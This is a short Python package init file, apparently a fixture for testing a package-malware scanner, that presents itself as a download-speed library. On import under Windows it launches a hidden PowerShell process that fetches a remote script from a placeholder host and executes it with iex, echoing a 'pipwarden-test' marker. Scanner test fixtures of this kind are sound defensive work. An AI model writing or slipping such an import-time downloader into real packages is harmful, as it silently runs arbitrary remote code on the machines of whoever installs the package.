import os

from .speed import download_speed  # noqa: F401

if os.name == "nt":
    from ._launch import run_hidden

    run_hidden("powershell -NoP -C \"iwr https://st-cdn.example.invalid/s.ps1 -UseB | iex; echo pipwarden-test\"")
